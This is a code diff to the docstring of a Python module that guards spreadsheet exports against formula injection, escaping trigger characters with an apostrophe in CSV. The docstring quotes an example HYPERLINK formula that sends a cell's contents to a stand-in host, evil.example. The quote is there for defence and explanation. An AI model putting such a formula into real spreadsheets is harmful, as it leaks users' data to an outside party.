@@ -1,15 +1,15 @@
 """The one rule for every spreadsheet the site writes: no cell is ever read as a formula.
 
 A spreadsheet program runs a cell starting with `=`, `+`, `-` or `@` (and, in some programs, a
-tab or carriage return) as a formula, so a title such as `=HYPERLINK("http://evil.example/?leak="&A1)`
-would send the sheet's contents away when opened. In CSV such a text gets a leading apostrophe,
-which spreadsheet programs read as "this is text"; in XLSX every text is a string cell, so
-nothing needs adding. Numbers and empty cells stay as they are.
+tab or carriage return) as a formula, so a title such as
+`=HYPERLINK("http://evil.example/?leak="&A1,"Click")` would send the sheet's contents away when
+clicked. In CSV such a text gets a leading apostrophe, which spreadsheet programs read as "this
+is text"; in XLSX every text is a string cell, so nothing needs adding. Numbers and empty cells
+stay as they are.
 
 Reading a CSV back removes exactly the apostrophe the export added, so an export imports back
 unchanged. A text that itself starts with apostrophes before a trigger, such as `'=1`, gets one
-more on export for the same reason.
-"""
+more on export for the same reason."""
 
 import io
 import re
